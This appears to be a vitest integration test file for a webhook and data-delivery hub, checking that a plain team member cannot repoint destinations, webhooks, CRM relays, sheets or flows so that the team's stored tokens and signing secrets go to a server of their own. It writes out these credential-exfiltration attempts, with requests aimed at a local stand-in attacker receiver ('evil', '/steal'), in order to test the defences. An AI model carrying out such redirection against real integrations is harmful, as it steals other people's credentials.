import { generateKeyPairSync } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newWorkspace, startTestHub, waitFor, type TestHub } from './support/hub.ts';
import { startReceiver, type Received } from './support/receiver.ts';

const V = '/api/v1';
type Person = Awaited<ReturnType<typeof newWorkspace>>;
type Node = { id: string; kind: string; position: { x: number; y: number }; data: Record<string, unknown> };
const node = (id: string, kind: string, data: Record<string, unknown>): Node => ({ id, kind, position: { x: 0, y: 0 }, data });
const edge = (source: string, target: string) => ({ id: `${source}-${target}`, source, target });
const lead = { name: 'Jane Smith', email: 'jane@example.com' };

/** A service-account key Google would accept the shape of; nothing here ever reaches Google. */
function serviceAccountKey() {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return {
    type: 'service_account',
    client_email: 'hub@team-project.iam.gserviceaccount.com',
    private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
  };
}

/**
 * Issue 12: a stored credential goes only where it went before, unless an owner or admin sends it
 * on, or the caller gives it anew. The attacker is a plain member of the team who runs a server of
 * their own (`evil`); the team's real receiver is `vendor`.
 */
describe('credentials follow the address', () => {
  let hub: TestHub;
  let owner: Person;
  let member: Person;
  let admin: Person;
  let vendor: Awaited<ReturnType<typeof startReceiver>>;
  let evil: Awaited<ReturnType<typeof startReceiver>>;

  const as = (who: Person, method: 'get' | 'post' | 'put' | 'patch' | 'delete', path: string) =>
    hub.api(method, `${V}${path}`, who.token).set('x-team-id', owner.teamId);
  const carrying = (secret: string) => (r: Received) => JSON.stringify(r.headers).includes(secret);
  const expectRefused = (res: { status: number; text: string; body: { error?: { code: string; message: string } } }, ...mentions: string[]) => {
    expect(res.status, res.text).toBe(403);
    expect(res.body.error?.code).toBe('CREDENTIALS_NEED_ADMIN');
    for (const m of [evil.url, ...mentions]) expect(res.body.error?.message).toContain(m);
  };

  const join = async (role: 'member' | 'admin'): Promise<Person> => {
    const p = await newWorkspace(hub);
    const invite = await hub.api('post', `${V}/teams/${owner.teamId}/invites`, owner.token).send({ email: p.email, role });
    expect(invite.status, invite.text).toBe(201);
    const accepted = await hub.api('post', `${V}/invites/${invite.body.url.split('/invite/')[1]}/accept`, p.token);
    expect(accepted.status, accepted.text).toBe(200);
    return p;
  };

  /** A destination of the owner's with a source and connection in front of it; `send` ingests one request. */
  const delivering = async (name: string, config: Record<string, unknown>) => {
    const des = await as(owner, 'post', '/destinations').send({ name, config });
    expect(des.status, des.text).toBe(201);
    const src = await as(owner, 'post', '/sources').send({ name: `${name} source` });
    expect(src.status, src.text).toBe(201);
    const con = await as(owner, 'post', '/connections').send({ name: `${name} connection`, source_id: src.body.id, destination_id: des.body.id });
    expect(con.status, con.text).toBe(201);
    const send = async (body: object) =>
      expect((await hub.api('post', `/e/${src.body.id}`).set('content-type', 'application/json').send(body)).status).toBe(200);
    return { id: des.body.id as string, send };
  };

  beforeAll(async () => {
    vendor = await startReceiver();
    evil = await startReceiver();
    hub = await startTestHub({ retrySchedule: [0, 50, 50] });
    owner = await newWorkspace(hub);
    member = await join('member');
    admin = await join('admin');
  });
  afterAll(async () => {
    await hub?.close();
    await Promise.all([vendor?.close(), evil?.close()]);
  });

  it("a member cannot point a destination's stored auth and headers at their own server; deliveries keep going to the real receiver", async () => {
    const token = 'team-bearer-token-0001';
    const dest = await delivering('orders api', {
      url: `${vendor.url}/orders`,
      auth: { type: 'bearer', token },
      headers: { 'x-api-key': 'team-header-key-0001' },
    });

    const moved = await as(member, 'patch', `/destinations/${dest.id}`).send({ config: { url: `${evil.url}/steal` } });
    expectRefused(moved, 'bearer auth', 'x-api-key');
    expect((moved.body.error.details as { path: string }[]).map((d) => d.path).sort()).toEqual(['config.auth', 'config.headers', 'config.url']);
    // The top-level shorthand is the same write. (PUT by name replaces the whole config, credentials included.)
    expectRefused(await as(member, 'patch', `/destinations/${dest.id}`).send({ url: `${evil.url}/steal` }));
    // Giving the auth anew is not enough while the stored headers would still go.
    expectRefused(
      await as(member, 'patch', `/destinations/${dest.id}`).send({ config: { url: `${evil.url}/steal`, auth: { type: 'bearer', token: 'mine' } } }),
      'x-api-key',
    );

    // Ordinary edits stay a member's.
    const renamed = await as(member, 'patch', `/destinations/${dest.id}`).send({ name: 'orders api v2', config: { rate_limit: 5, timeout_ms: 5000 } });
    expect(renamed.status, renamed.text).toBe(200);
    expect(renamed.body.config.url).toBe(`${vendor.url}/orders`);

    await dest.send({ n: 1 });
    await waitFor(() => vendor.received.find((r) => r.url === '/orders'), 10_000, 'the delivery to the real receiver');
    expect(vendor.received.find((r) => r.url === '/orders')?.headers.authorization).toBe(`Bearer ${token}`);
    expect(evil.received.filter(carrying(token))).toEqual([]);

    // Re-entering every stored credential makes them the member's own: the team's never leave.
    const own = await as(member, 'patch', `/destinations/${dest.id}`).send({
      config: { url: `${evil.url}/own`, auth: { type: 'bearer', token: 'member-own-token' }, headers: {} },
    });
    expect(own.status, own.text).toBe(200);
    await dest.send({ n: 2 });
    const got = await waitFor(() => evil.received.find((r) => r.url === '/own'), 10_000, 'the delivery with the member’s own token');
    expect(got.headers.authorization).toBe('Bearer member-own-token');
    expect(evil.received.filter(carrying(token))).toEqual([]);
  });

  it('an owner or admin may move stored credentials; a member may move a destination that keeps none', async () => {
    for (const [who, path] of [
      [owner, '/by-owner'],
      [admin, '/by-admin'],
    ] as const) {
      const token = `team-token-moved${path.replace('/', '-')}`;
      const dest = await delivering(`moved ${path.slice(1)}`, { url: `${vendor.url}/before`, auth: { type: 'bearer', token } });
      const moved = await as(who, 'patch', `/destinations/${dest.id}`).send({ config: { url: `${evil.url}${path}` } });
      expect(moved.status, moved.text).toBe(200);
      await dest.send({ moved: path });
      const got = await waitFor(() => evil.received.find((r) => r.url === path), 10_000, `the delivery moved ${path}`);
      expect(got.headers.authorization).toBe(`Bearer ${token}`);
    }

    const plain = await as(owner, 'post', '/destinations').send({ name: 'no credentials', config: { url: `${vendor.url}/plain` } });
    const moved = await as(member, 'patch', `/destinations/${plain.body.id}`).send({ config: { url: `${evil.url}/plain` } });
    expect(moved.status, moved.text).toBe(200);
    // A member still makes destinations with credentials of their own.
    const made = await as(member, 'post', '/destinations').send({
      name: 'members own',
      config: { url: `${evil.url}/made`, auth: { type: 'basic', username: 'me', password: 'pw' } },
    });
    expect(made.status, made.text).toBe(201);
  });

  it('a secret sent as-is (shared-secret signing) counts: the workspace signing secret never reaches a member’s server', async () => {
    const workspaceSecret = (await hub.api('get', `${V}/project-secrets?reveal=true`, owner.key)).body.signing_secret.value as string;
    expect(workspaceSecret).toBeTruthy();

    const made = await as(member, 'post', '/destinations').send({ name: 'header compare', config: { url: `${evil.url}/shared`, signing: 'shared-secret' } });
    expectRefused(made, "workspace's signing secret");
    expect(
      (
        await as(member, 'post', '/destinations').send({
          name: 'header compare',
          config: { url: `${evil.url}/shared`, signing: 'shared-secret', secret: 'member-own-secret' },
        })
      ).status,
    ).toBe(201);

    // Two steps: an address with nothing stored, then a signing mode that starts sending the secret there.
    const hmac = await as(member, 'post', '/destinations').send({ name: 'two steps', config: { url: `${evil.url}/two-steps` } });
    expect(hmac.status, hmac.text).toBe(201);
    expectRefused(await as(member, 'patch', `/destinations/${hmac.body.id}`).send({ config: { signing: 'shared-secret' } }), "workspace's signing secret");
    // An HMAC key only signs: the hmac destination moved freely above, and moves again.
    expect((await as(member, 'patch', `/destinations/${hmac.body.id}`).send({ config: { url: `${evil.url}/elsewhere` } })).status).toBe(200);
    expect(evil.received.filter(carrying(workspaceSecret))).toEqual([]);
  });

  it("a member cannot move a webhook's stored Authorization; re-entering it, or an owner, can", async () => {
    const authorization = 'Token team-webhook-authorization';
    const hook = await as(owner, 'post', '/webhooks').send({ name: 'crm push', url: `${vendor.url}/hook`, events: ['lead.captured'], authorization });
    expect(hook.status, hook.text).toBe(201);

    const moved = await as(member, 'patch', `/webhooks/${hook.body.id}`).send({ url: `${evil.url}/hook` });
    expectRefused(moved, 'custom auth');
    expect((moved.body.error.details as { path: string }[]).map((d) => d.path).sort()).toEqual(['authorization', 'url']);
    expectRefused(await as(member, 'put', `/webhooks/${hook.body.id}`).send({ url: `${evil.url}/hook`, events: ['lead.captured'] }));
    expect((await as(member, 'patch', `/webhooks/${hook.body.id}`).send({ name: 'crm push v2', events: ['lead.captured'] })).status).toBe(200);

    expect((await hub.api('post', `${V}/publish`, owner.key).send({ eventType: 'lead.captured', data: lead })).status).toBe(202);
    const got = await waitFor(() => vendor.received.find((r) => r.url === '/hook'), 10_000, 'the webhook delivery');
    expect(got.headers.authorization).toBe(authorization);
    expect(evil.received.filter(carrying(authorization))).toEqual([]);

    const own = await as(member, 'patch', `/webhooks/${hook.body.id}`).send({ url: `${evil.url}/hook-own`, authorization: 'Token member-own' });
    expect(own.status, own.text).toBe(200);
    const other = await as(owner, 'post', '/webhooks').send({ name: 'erp push', url: `${vendor.url}/erp`, events: ['lead.captured'], authorization });
    expect((await as(owner, 'patch', `/webhooks/${other.body.id}`).send({ url: `${evil.url}/erp` })).status).toBe(200);
  });

  it("a CRM relay's generic URL, its update URL, a sheet's API root and a CRM base URL take no stored credentials to a member's server", async () => {
    const crm = await as(owner, 'post', '/destinations').send({
      name: 'generic crm',
      type: 'crm-relay',
      config: { preset: 'generic', url: `${vendor.url}/leads`, auth: { type: 'api_key', header_key: 'x-crm-key', api_key: 'team-crm-key' } },
    });
    expect(crm.status, crm.text).toBe(201);
    expectRefused(await as(member, 'patch', `/destinations/${crm.body.id}`).send({ config: { url: `${evil.url}/leads` } }), 'api_key auth');
    const update = await as(member, 'patch', `/destinations/${crm.body.id}`).send({ config: { update_url: `${evil.url}/leads/{id}` } });
    expectRefused(update, 'api_key auth');
    expect(update.body.error.details).toContainEqual({ path: 'config.update_url', message: expect.stringContaining(evil.url) });
    expect((await as(member, 'patch', `/destinations/${crm.body.id}`).send({ config: { update_url: `${vendor.url}/leads/{id}` } })).status).toBe(200);
    const own = await as(member, 'patch', `/destinations/${crm.body.id}`).send({
      config: { url: `${evil.url}/leads`, auth: { type: 'bearer', token: 'member-crm' } },
    });
    expect(own.status, own.text).toBe(200);

    const sheet = await as(owner, 'post', '/destinations').send({
      name: 'leads sheet',
      type: 'google-sheets',
      config: { credentials: serviceAccountKey(), spreadsheetId: 'team-spreadsheet-0001', columns: ['email'] },
    });
    expect(sheet.status, sheet.text).toBe(201);
    expectRefused(await as(member, 'patch', `/destinations/${sheet.body.id}`).send({ config: { api_root_url: `${evil.url}/` } }), 'service-account key');
    expect((await as(member, 'patch', `/destinations/${sheet.body.id}`).send({ config: { columns: ['email', 'name'] } })).status).toBe(200);
    expect(
      (await as(member, 'patch', `/destinations/${sheet.body.id}`).send({ config: { api_root_url: `${evil.url}/`, credentials: serviceAccountKey() } })).status,
    ).toBe(200);
    expect((await as(owner, 'patch', `/destinations/${sheet.body.id}`).send({ config: { api_root_url: `${vendor.url}/` } })).status).toBe(200);

    // A credential from Settings is the team's: its vendor's own address only, for a member.
    expect((await as(owner, 'post', '/credentials').send({ kind: 'hubspot', secret: 'pat-team-hubspot-token' })).status).toBe(201);
    expectRefused(
      await as(member, 'post', '/destinations').send({
        name: 'hubspot',
        type: 'crm-relay',
        config: { preset: 'hubspot', credential_id: 'default', base_url: evil.url },
      }),
      'HubSpot token',
    );
    const hubspot = await as(member, 'post', '/destinations').send({
      name: 'hubspot',
      type: 'crm-relay',
      config: { preset: 'hubspot', credential_id: 'default' },
    });
    expect(hubspot.status, hubspot.text).toBe(201);
    expectRefused(await as(member, 'patch', `/destinations/${hubspot.body.id}`).send({ config: { base_url: evil.url } }), 'HubSpot token');
    expect((await as(admin, 'patch', `/destinations/${hubspot.body.id}`).send({ config: { base_url: vendor.url } })).status).toBe(200);
  });

  it("a flow's test delivery and connection test do not carry a saved destination's credentials to a URL in the request", async () => {
    const token = 'team-token-for-flow-tests';
    const saved = await as(owner, 'post', '/destinations').send({
      name: 'flow target',
      config: { url: `${vendor.url}/flow`, auth: { type: 'bearer', token } },
    });
    expect(saved.status, saved.text).toBe(201);
    const graph = (data: Record<string, unknown>) => ({
      nodes: [
        node('t1', 'trigger', { eventType: 'lead.captured' }),
        node('w1', 'webhook', { url: `${evil.url}/flow-test`, signing: 'hmac', destinationId: saved.body.id, ...data }),
      ],
      edges: [edge('t1', 'w1')],
    });

    const test = await as(member, 'post', '/flows/test').send({ graph: graph({}), data: lead, deliver: 'w1' });
    expectRefused(test, 'bearer auth');
    expect(test.body.error.details).toContainEqual({ path: 'nodes.w1.data.url', message: expect.stringContaining(evil.url) });
    expectRefused(await as(member, 'post', '/flows/test-connection').send({ node: graph({}).nodes[1] }));
    expect(evil.received.filter(carrying(token))).toEqual([]);

    // The member's own Authorization, or an owner, may.
    const own = await as(member, 'post', '/flows/test').send({ graph: graph({ authorization: 'Bearer member-own' }), data: lead, deliver: 'w1' });
    expect(own.status, own.text).toBe(200);
    expect(own.body.delivery).toMatchObject({ ok: true });
    const byOwner = await as(owner, 'post', '/flows/test-connection').send({ node: graph({}).nodes[1] });
    expect(byOwner.status, byOwner.text).toBe(200);
    expect(evil.received.filter(carrying(token)).map((r) => r.method)).toEqual(['HEAD']);
  });

  it("a member saving a flow cannot move its webhook node's stored Authorization", async () => {
    const authorization = 'Bearer team-flow-authorization';
    const nodes = (url: string, data: Record<string, unknown> = {}) => [
      node('t1', 'trigger', { eventType: 'lead.captured' }),
      node('w1', 'webhook', { url, signing: 'hmac', ...data }),
    ];
    const flow = await as(owner, 'post', '/flows').send({
      name: 'Leads out',
      graph: { nodes: nodes(`${vendor.url}/flow-saved`, { authorization }), edges: [edge('t1', 'w1')] },
    });
    expect(flow.status, flow.text).toBe(201);
    const stored = flow.body.graph.nodes.find((n: Node) => n.id === 'w1') as Node;

    const moved = await as(member, 'put', `/flows/${flow.body.id}`).send({
      graph: { nodes: [nodes('')[0], { ...stored, data: { ...stored.data, url: `${evil.url}/flow-saved` } }], edges: [edge('t1', 'w1')] },
    });
    expectRefused(moved, 'custom auth');
    expect((await as(member, 'get', `/webhooks/${stored.data.connectionId as string}`)).body.url).toBe(`${vendor.url}/flow-saved`);

    const own = await as(member, 'put', `/flows/${flow.body.id}`).send({
      graph: {
        nodes: [nodes('')[0], { ...stored, data: { ...stored.data, url: `${evil.url}/flow-saved`, authorization: 'Bearer member-own' } }],
        edges: [edge('t1', 'w1')],
      },
    });
    expect(own.status, own.text).toBe(200);
  });
});
